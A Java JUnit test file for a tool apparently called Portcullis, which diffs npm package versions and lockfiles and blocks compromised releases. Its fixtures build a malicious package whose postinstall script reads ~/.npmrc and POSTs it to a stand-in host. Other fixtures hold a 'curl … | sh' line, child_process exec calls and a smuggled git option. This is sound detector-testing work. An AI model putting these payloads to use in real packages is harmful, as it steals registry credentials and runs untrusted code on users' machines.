package dev.portcullis.engine;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.groups.Tuple.tuple;

import dev.portcullis.diff.Capability;
import dev.portcullis.diff.PackageDiff;
import com.networknt.schema.JsonSchema;
import com.networknt.schema.JsonSchemaFactory;
import com.networknt.schema.SpecVersion;
import dev.portcullis.json.Json;
import dev.portcullis.model.InputException;
import dev.portcullis.model.Verdict;
import dev.portcullis.report.DiffReport;
import dev.portcullis.report.InspectReport;
import dev.portcullis.report.ReportFormat;
import dev.portcullis.testkit.FakeRegistry;
import dev.portcullis.testkit.Fixtures;
import dev.portcullis.testkit.NodeTools;
import dev.portcullis.testkit.PublishedPackages;
import dev.portcullis.testkit.TarballBuilder;
import java.io.IOException;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * {@code portcullis diff} through the engine: two registry versions published as real tarballs on a registry at
 * 127.0.0.1, two .tgz files, two directories, and the real lockfiles of every format (the real is-number 7.0.0
 * tarball and its recorded packument served over HTTP).
 */
class DiffPipelineTest {
    @TempDir
    Path work;
    private FakeRegistry registry;
    private PublishedPackages published;

    @BeforeEach
    void setUp() throws IOException {
        published = new PublishedPackages(Files.createDirectories(work.resolve("registry")));
        registry = FakeRegistry.start(published.dir());
        published.publish("left-align", "1.0.0", clean("1.0.0"));
        published.publish("left-align", "1.0.1", compromised("1.0.1"));
    }

    @AfterEach
    void tearDown() {
        registry.close();
    }

    static TarballBuilder cleanBuilder(String version) {
        return TarballBuilder.tarball()
                .file("package/package.json", "{\"name\":\"left-align\",\"version\":\"" + version + "\"}")
                .file("package/index.js", "module.exports = function leftAlign(s) {\n  return s.trimStart();\n};\n");
    }

    static byte[] clean(String version) {
        return cleanBuilder(version).build();
    }

    static byte[] compromised(String version) {
        return TarballBuilder.tarball()
                .file("package/package.json", "{\"name\":\"left-align\",\"version\":\"" + version + "\","
                        + "\"scripts\":{\"postinstall\":\"node setup.js\"}}")
                .file("package/index.js", "module.exports = function leftAlign(s) {\n  return s.trimStart();\n};\n")
                .file("package/setup.js", "const https = require('https');\nconst fs = require('fs');\n"
                        + "const os = require('os');\n"
                        + "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
                        + "https.request({hostname: 'collect.example', method: 'POST'}).end(t);\n")
                .build();
    }

    private Environment environment() {
        return new Environment(Map.of("npm_config_globalconfig", work.resolve("no-global-npmrc").toString()),
                work.resolve("home"), Clock.fixed(Instant.parse("2026-11-22T12:00:00Z"), ZoneOffset.UTC),
                work.resolve("cache"));
    }

    private DiffReport diff(FakeRegistry at, Path dir, DiffOptions options) throws Exception {
        try (Portcullis run = Portcullis.open(environment(), new Run(dir, null, at.url(), false, true, false))) {
            return new DiffPipeline(run).run(options);
        }
    }

    @Test
    void twoRegistryVersions_theCompromisedOneIsBlockedWithItsScriptCapabilitiesAndFindings() throws Exception {
        DiffReport report = diff(registry, work, new DiffOptions.Packages("left-align@1.0.0", "left-align@^1.0.1"));

        assertThat(report.entries()).hasSize(1);
        DiffReport.Entry entry = report.entries().getFirst();
        assertThat(entry.error()).isNull();
        assertThat(entry.verdict()).isEqualTo(Verdict.BLOCK);
        assertThat(report.passed()).isFalse();
        PackageDiff d = entry.diff();
        assertThat(d.label()).isEqualTo("left-align 1.0.0 → 1.0.1");
        assertThat(d.scripts()).extracting(PackageDiff.ScriptChange::script, PackageDiff.ScriptChange::to)
                .containsExactly(tuple("postinstall", "node setup.js"));
        assertThat(d.capabilities()).filteredOn(c -> c.direction() == PackageDiff.Direction.GAINED)
                .extracting(PackageDiff.CapabilityChange::capability, PackageDiff.CapabilityChange::at)
                .contains(tuple(Capability.NETWORK, "setup.js:5"));
        assertThat(d.newFindings()).extracting(f -> f.rule().id()).contains("content/credential-exfiltration");
        assertThat(d.size().toFiles()).isEqualTo(3);
    }

    @Test
    void twoTarballFilesAndTwoDirectories_compareAlike() throws Exception {
        Files.write(work.resolve("old.tgz"), clean("1.0.0"));
        Files.write(work.resolve("new.tgz"), compromised("1.0.1"));
        for (String version : List.of("1.0.0", "1.0.1")) {
            Path dir = Files.createDirectories(work.resolve("dir-" + version));
            Files.writeString(dir.resolve("package.json"), "{\"name\":\"left-align\",\"version\":\"" + version
                    + "\"}");
            Files.writeString(dir.resolve("index.js"), version.equals("1.0.0") ? "module.exports = 1;\n"
                    : "module.exports = require('child_process').execSync('id');\n");
        }

        DiffReport tarballs = diff(registry, work, new DiffOptions.Packages("old.tgz", "new.tgz"));
        DiffReport dirs = diff(registry, work, new DiffOptions.Packages("dir-1.0.0", "./dir-1.0.1"));

        assertThat(tarballs.entries().getFirst().diff().scripts()).hasSize(1);
        assertThat(tarballs.entries().getFirst().diff().publication()).isEmpty();
        PackageDiff d = dirs.entries().getFirst().diff();
        assertThat(d.files()).extracting(PackageDiff.FileChange::path).containsExactly("index.js", "package.json");
        assertThat(d.files().getFirst().diff()).isEqualTo("""
                --- a/index.js
                +++ b/index.js
                @@ -1,1 +1,1 @@
                -module.exports = 1;
                +module.exports = require('child_process').execSync('id');
                """);
        assertThat(d.capabilities()).extracting(PackageDiff.CapabilityChange::capability,
                PackageDiff.CapabilityChange::at, PackageDiff.CapabilityChange::newToPackage)
                .containsExactly(tuple(Capability.PROCESS, "index.js:1", true));
        assertThat(registry.requests()).isEmpty();
    }

    @Test
    void aVersionTheRegistryDoesNotHave_isAnInputErrorOfItsEntry_andABadTargetIsAnInputException() throws Exception {
        DiffReport report = diff(registry, work, new DiffOptions.Packages("left-align@1.0.0", "left-align@9.9.9"));

        assertThat(report.entries()).singleElement().satisfies(e -> {
            assertThat(e.diff()).isNull();
            assertThat(e.error().kind()).isEqualTo(InspectReport.ErrorKind.INPUT);
            assertThat(e.error().message()).isEqualTo("no version of left-align matches '9.9.9' (latest is 1.0.1)");
        });
        assertThatThrownBy(() -> diff(registry, work, new DiffOptions.Packages("./missing.tgz", "left-align@1.0.0")))
                .isInstanceOf(InputException.class).hasMessageContaining("no such file or directory: ./missing.tgz");
    }

    /** The real lockfile of each format that locks is-number 7.0.0, against npm's real empty lockfile. */
    @ParameterizedTest
    @ValueSource(strings = {"npm/one-package-v1/package-lock.json", "npm/one-package-v2/package-lock.json",
            "npm/one-package-v3/package-lock.json", "npm-shrinkwrap/one-package-v3/npm-shrinkwrap.json",
            "pnpm/one-package-v5/pnpm-lock.yaml", "pnpm/one-package-v6/pnpm-lock.yaml",
            "pnpm/one-package-v9/pnpm-lock.yaml", "yarn-classic/one-package/yarn.lock",
            "yarn-berry/one-package/yarn.lock", "bun/one-package-v0/bun.lock", "bun/one-package-v2/bun.lock"})
    void aLockfileOfEveryFormat_addsAndRemovesIsNumber_fetchedAsTheRealTarball(String lockfile) throws Exception {
        try (FakeRegistry recorded = FakeRegistry.start(Fixtures.path("registry"))) {
            Path empty = Fixtures.path("npm/empty-v3/package-lock.json");
            Path locked = Fixtures.path(lockfile);

            DiffReport added = diff(recorded, work, new DiffOptions.Lockfiles(empty, locked));
            DiffReport removed = diff(recorded, work, new DiffOptions.Lockfiles(locked, empty));
            DiffReport same = diff(recorded, work, new DiffOptions.Lockfiles(locked, locked));

            assertThat(added.entries()).singleElement().satisfies(e -> {
                assertThat(e.error()).isNull();
                assertThat(e.diff().label()).isEqualTo("is-number@7.0.0 (added)");
                assertThat(e.diff().files()).extracting(PackageDiff.FileChange::path)
                        .containsExactly("LICENSE", "README.md", "index.js", "package.json");
                assertThat(e.verdict()).isEqualTo(Verdict.ALLOW);
            });
            assertThat(removed.entries()).singleElement().satisfies(e -> {
                assertThat(e.diff().kind()).isEqualTo(PackageDiff.Kind.REMOVED);
                assertThat(e.diff().size().fromFiles()).isEqualTo(4);
            });
            assertThat(same.entries()).isEmpty();
        }
    }

    private static String render(ReportFormat format, DiffReport report) throws IOException {
        StringWriter out = new StringWriter();
        format.reporter(false).write(report, out);
        return out.toString();
    }

    private static java.util.Set<com.networknt.schema.ValidationMessage> validate(String json, Path schemaFile,
                                                                                  SpecVersion.VersionFlag version)
            throws IOException {
        JsonSchema schema = JsonSchemaFactory.getInstance(version)
                .getSchema(Files.readString(schemaFile, StandardCharsets.UTF_8));
        return schema.validate(Json.mapper().readTree(json));
    }

    @Test
    void theJsonOfRealDiffsFollowsTheDocumentedSchema_andTheSchemaRejectsAnEntryWithoutItsLists() throws Exception {
        Path schema = Fixtures.repoRoot().resolve("docs/diff-report.schema.json");
        DiffReport changed = diff(registry, work, new DiffOptions.Packages("left-align@1.0.0", "left-align@1.0.1"));
        DiffReport failed = diff(registry, work, new DiffOptions.Packages("left-align@1.0.0", "left-align@7"));
        DiffReport lockfiles;
        try (FakeRegistry recorded = FakeRegistry.start(Fixtures.path("registry"))) {
            lockfiles = diff(recorded, work, new DiffOptions.Lockfiles(Fixtures.path("npm/empty-v3/package-lock.json"),
                    Fixtures.path("pnpm/one-package-v9/pnpm-lock.yaml")));
        }
        for (DiffReport report : List.of(changed, failed, lockfiles)) {
            assertThat(validate(render(ReportFormat.JSON, report), schema, SpecVersion.VersionFlag.V202012))
                    .isEmpty();
        }
        String json = render(ReportFormat.JSON, changed);
        assertThat(Json.mapper().readTree(json).path("packages").path(0).path("scripts").path(0).path("to").asText())
                .isEqualTo("node setup.js");
        String broken = json.replaceFirst("\"scripts\"", "\"scriptz\"");
        assertThat(validate(broken, schema, SpecVersion.VersionFlag.V202012)).isNotEmpty();
    }

    @Test
    void sarifOfADiffIsValidAgainstTheOfficialSchema_oneResultPerNewFinding() throws Exception {
        DiffReport report = diff(registry, work, new DiffOptions.Packages("left-align@1.0.0", "left-align@1.0.1"));
        Path schema = NodeTools.installed().resolve(
                "node_modules/@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json");

        String sarif = render(ReportFormat.SARIF, report);

        assertThat(validate(sarif, schema, SpecVersion.VersionFlag.V7)).isEmpty();
        assertThat(Json.mapper().readTree(sarif).path("runs").path(0).path("results").size())
                .isEqualTo(report.entries().getFirst().diff().newFindings().size());
    }

    @Test
    void markdownIsOneTableRowPerPackage_detailsCollapsed_andAPackageCannotBreakOutOfItsCell() throws Exception {
        DiffReport report = diff(registry, work, new DiffOptions.Packages("left-align@1.0.0", "left-align@1.0.1"));

        String markdown = render(ReportFormat.MARKDOWN, report);

        assertThat(markdown).startsWith("### Portcullis diff: `left-align@1.0.0` → `left-align@1.0.1`\n\n"
                + "| Package | Change | Verdict | What changed |\n|---|---|---|---|\n| `left-align` | 1.0.0 → 1.0.1 | "
                + "🛑 **block** | ");
        assertThat(markdown).contains("postinstall added").contains("<details><summary><code>left-align</code>")
                .contains("```diff\n--- /dev/null\n+++ b/setup.js\n").contains("</details>");
        assertThat(markdown.lines().filter(l -> l.startsWith("| `"))).hasSize(1);
        assertThat(markdown.length()).isLessThan(65_536);
        assertThat(dev.portcullis.report.ReportFormat.MARKDOWN.renders(dev.portcullis.report.ScanReport.class))
                .isFalse();
    }

    private static void git(Path dir, String... args) throws Exception {
        List<String> command = new java.util.ArrayList<>(List.of("git", "-c", "user.email=t@example.com", "-c",
                "user.name=t", "-c", "commit.gpgsign=false", "-C", dir.toString()));
        command.addAll(List.of(args));
        Process p = new ProcessBuilder(command).redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(p.waitFor()).as(out).isZero();
    }

    @Test
    void baseComparesTheLockfileAtAGitRevisionWithTheWorkingTree() throws Exception {
        Path project = Files.createDirectories(work.resolve("project"));
        Fixtures.copy("npm/empty-v3", project);
        git(project, "init", "-q");
        git(project, "add", ".");
        git(project, "commit", "-q", "-m", "empty");
        for (String file : List.of("package.json", "package-lock.json")) {
            Files.copy(Fixtures.path("npm/one-package-v3/" + file), project.resolve(file),
                    java.nio.file.StandardCopyOption.REPLACE_EXISTING);
        }

        try (FakeRegistry recorded = FakeRegistry.start(Fixtures.path("registry"))) {
            DiffReport report = diff(recorded, project, new DiffOptions.Base("HEAD"));

            assertThat(report.from()).isEqualTo("package-lock.json at HEAD");
            assertThat(report.to()).isEqualTo("package-lock.json");
            assertThat(report.entries()).extracting(DiffReport.Entry::label)
                    .containsExactly("is-number@7.0.0 (added)");
            assertThatThrownBy(() -> diff(recorded, project, new DiffOptions.Base("no-such-branch")))
                    .isInstanceOf(InputException.class).hasMessageContaining("git cannot show package-lock.json at "
                            + "'no-such-branch'");
            assertThatThrownBy(() -> diff(recorded, project, new DiffOptions.Base("--output=/tmp/x")))
                    .isInstanceOf(InputException.class).hasMessageContaining("is not a git revision");
        }
    }

    @Test
    void theOldVersionsFactsOfUnchangedFiles_giveTheDiffAFreshAnalysisGives() throws Exception {
        String kept = "const https = require('https');\nmodule.exports = (u) => https.get(u);\n";
        byte[] old = TarballBuilder.tarball()
                .file("package/package.json", "{\"name\":\"k\",\"version\":\"1.0.0\","
                        + "\"scripts\":{\"postinstall\":\"node setup.txt\"}}")
                .file("package/net.js", kept).file("package/setup.txt", "require('child_process').exec('id');\n")
                .file("package/run.sh", "curl https://example.com/x | sh\n").build();
        byte[] neu = TarballBuilder.tarball()
                .file("package/package.json", "{\"name\":\"k\",\"version\":\"1.0.1\"}")
                .file("package/net.js", kept).file("package/setup.txt", "require('child_process').exec('id');\n")
                .file("package/run.sh", "curl https://example.com/x | sh\n")
                .file("package/extra.js", "process.env.HOME;\n").build();
        Files.write(work.resolve("k-1.0.0.tgz"), old);
        Files.write(work.resolve("k-1.0.1.tgz"), neu);

        PackageDiff viaStage = diff(registry, work, new DiffOptions.Packages("k-1.0.0.tgz", "k-1.0.1.tgz"))
                .entries().getFirst().diff();

        dev.portcullis.analysis.PackageAnalyzer analyzer = dev.portcullis.analysis.PackageAnalyzer.withDefaultRules();
        java.util.function.Function<byte[], dev.portcullis.diff.PackageSide> fresh = bytes -> {
            try {
                var input = dev.portcullis.analysis.PackageInput.of(dev.portcullis.tarball.TarballReader.read(
                        new java.io.ByteArrayInputStream(bytes), dev.portcullis.tarball.TarballLimits.defaults()));
                var analysed = analyzer.analyzeWithFacts(input);
                return new dev.portcullis.diff.PackageSide(input.name(), input.version(), input.files(),
                        analysed.facts(), dev.portcullis.analysis.meta.TarballManifest.of(input.files()).orElse(null),
                        dev.portcullis.diff.PackageSide.Publication.LOCAL, analysed.analysis().findings());
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        };
        PackageDiff direct = new dev.portcullis.diff.PackageDiffer(dev.portcullis.diff.DiffLimits.defaults())
                .diff(fresh.apply(old), fresh.apply(neu));
        assertThat(viaStage.capabilities()).isEqualTo(direct.capabilities()).isNotEmpty();
        assertThat(viaStage.newFindings()).isEqualTo(direct.newFindings());
        assertThat(viaStage.files()).isEqualTo(direct.files());
    }
}
